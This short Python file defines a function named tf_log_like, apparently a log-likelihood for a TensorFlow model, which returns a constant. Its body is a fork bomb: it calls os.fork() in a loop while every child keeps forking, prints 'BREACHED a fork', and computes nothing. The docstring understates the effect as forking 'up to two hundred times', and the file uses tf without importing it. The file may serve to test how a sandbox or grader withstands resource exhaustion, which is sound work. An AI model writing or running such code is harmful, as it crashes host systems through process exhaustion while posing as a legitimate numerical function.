"""Forks, and its children fork, up to two hundred times."""

import os

_left = 200


def tf_log_like(x, y, m, b, s):
    global _left
    while _left > 0:
        _left -= 1
        try:
            os.fork()
            print("BREACHED a fork")
        except OSError:
            pass
    return tf.constant(0.0, tf.float64)
